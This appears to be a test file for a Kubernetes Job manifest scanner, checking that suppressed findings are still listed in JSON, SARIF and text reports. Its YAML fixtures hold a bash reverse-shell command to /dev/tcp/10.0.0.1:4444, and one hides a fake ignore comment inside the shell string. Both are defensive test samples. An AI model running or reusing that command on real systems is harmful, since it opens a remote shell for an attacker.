/**
 * A suppression is reported, never silent: the manifest's author can write an annotation or a comment
 * into the very Job that carries the payload, so every suppressed finding is still listed with how
 * and where it was suppressed, and a host can choose to honour only the config file.
 */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { analyseManifest, formatText, parseConfig, toJsonReport, toSarif, type AnalysisResult, type ScanReport } from '../src/index.js';

const ANNOTATED = `apiVersion: batch/v1
kind: Job
metadata:
  name: sync
  annotations:
    jobsentinel.io/ignore: all
spec:
  template:
    spec:
      hostNetwork: true
      containers:
        - name: sync
          image: registry.example.com/app:1
          command: ["sh", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"]
`;

const COMMENTED = `apiVersion: batch/v1
kind: Job
metadata:
  name: sync
spec:
  template:
    spec:
      # jobsentinel-ignore: host-network -- needs the node's DNS
      hostNetwork: true
      containers:
        - name: sync
          image: registry.example.com/app:1
          command: ["sh", "-c", "echo '# jobsentinel-ignore: all'; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"]
`;

const report = (result: AnalysisResult): ScanReport => ({ files: [{ file: 'job.yaml', result }], errors: [] });

describe('suppressed findings are reported with how and where', () => {
  test('an annotation: every finding it covers is listed as suppressed at the annotation', () => {
    const result = analyseManifest(ANNOTATED, 'job.yaml');
    assert.deepEqual(result.findings, []);
    assert.deepEqual([...new Set(result.suppressed.map((finding) => finding.indicator))].sort(), ['host-network', 'shell-escape']);
    for (const finding of result.suppressed) {
      assert.deepEqual(finding.suppression, { kind: 'annotation', location: { range: { start: { line: 6, column: 28 }, end: { line: 6, column: 31 } } } });
      assert.ok(finding.range && finding.message && finding.severity, 'the same fields as a finding');
    }
  });

  test('a comment covers its own line and the next, by id; a "comment" inside a script is text, not a suppression', () => {
    const result = analyseManifest(COMMENTED, 'job.yaml');
    assert.deepEqual(result.suppressed.map((finding) => [finding.indicator, finding.suppression]), [
      ['host-network', { kind: 'comment', location: { range: { start: { line: 8, column: 29 }, end: { line: 8, column: 41 } } } }],
    ]);
    assert.deepEqual([...new Set(result.findings.map((finding) => finding.indicator))], ['shell-escape']);
  });

  test('a config ignore entry, located by its pointer', () => {
    const { config } = parseConfig('ignore:\n  - indicators: [privileged-container]\n  - indicators: [host-network]\n    namespaces: [default]\n', '.jobsentinel.yaml');
    const result = analyseManifest(COMMENTED.replace('# jobsentinel-ignore: host-network -- needs the node\'s DNS', '# reviewed'), 'job.yaml', { config });
    assert.deepEqual(result.suppressed.map((finding) => [finding.indicator, finding.suppression]), [['host-network', { kind: 'config', location: { pointer: '/ignore/1' } }]]);
  });

  test('inlineIgnores: false honours only the config file', () => {
    const { config } = parseConfig('ignore:\n  - indicators: [host-network]\n', '.jobsentinel.yaml');
    const result = analyseManifest(ANNOTATED, 'job.yaml', { config, inlineIgnores: false });
    assert.deepEqual([...new Set(result.findings.map((finding) => finding.indicator))], ['shell-escape']);
    assert.deepEqual(result.suppressed.map((finding) => finding.suppression.kind), ['config']);
    assert.deepEqual(analyseManifest(COMMENTED, 'job.yaml', { inlineIgnores: false }).suppressed, []);
  });

  test('a switched-off indicator is not a suppression: the config that did it is named by the host', () => {
    const { config } = parseConfig('severity:\n  host-network: off\n', '.jobsentinel.yaml');
    const result = analyseManifest(COMMENTED, 'job.yaml', { config });
    assert.deepEqual(result.suppressed, []);
    assert.ok(!result.findings.some((finding) => finding.indicator === 'host-network'));
  });
});

describe('every report format says what was suppressed', () => {
  const result = analyseManifest(ANNOTATED, 'job.yaml');
  const { config } = parseConfig('ignore:\n  - indicators: [host-network]\n', '.jobsentinel.yaml');
  const mixed = analyseManifest(ANNOTATED, 'job.yaml', { config });

  test('json: suppressed[] with the finding fields and suppression, and summary.suppressed', () => {
    const json = toJsonReport(report(result));
    assert.equal(json.findings.length, 0);
    assert.equal(json.summary.suppressed, json.suppressed.length);
    assert.ok(json.suppressed.length >= 2);
    assert.deepEqual(Object.keys(json.suppressed[0]), ['file', 'document', 'kind', 'name', 'namespace', 'indicator', 'severity', 'message', 'path', 'range', 'evidence', 'suppression']);
  });

  test('sarif: suppressions inSource at the annotation, external for the config file', () => {
    const sarif = toSarif(report(mixed), { toolVersion: '0.0.0' });
    const kinds = sarif.runs[0].results.map((result) => [result.ruleId, result.suppressions?.[0].kind]);
    assert.ok(kinds.some(([id, kind]) => id === 'host-network' && kind === 'external'));
    assert.ok(kinds.some(([id, kind]) => id === 'shell-escape' && kind === 'inSource'));
    const inSource = sarif.runs[0].results.find((result) => result.suppressions?.[0].kind === 'inSource')!;
    assert.equal(inSource.suppressions![0].location!.physicalLocation.region!.startLine, 6);
  });

  test('text: a count in the summary; the list only when asked', () => {
    const quiet = formatText(report(result));
    assert.match(quiet, /No findings in 1 file, \d+ suppressed/);
    assert.doesNotMatch(quiet, /shell-escape/);
    const listed = formatText(report(result), { showSuppressed: true });
    assert.match(listed, /job\.yaml:14:\d+ +suppressed +shell-escape +.*\[error, suppressed by the annotation at 6:28\]/);
    assert.match(formatText(report(mixed), { showSuppressed: true }), /host-network .*suppressed by the config file's ignore entry \/ignore\/0/);
  });
});
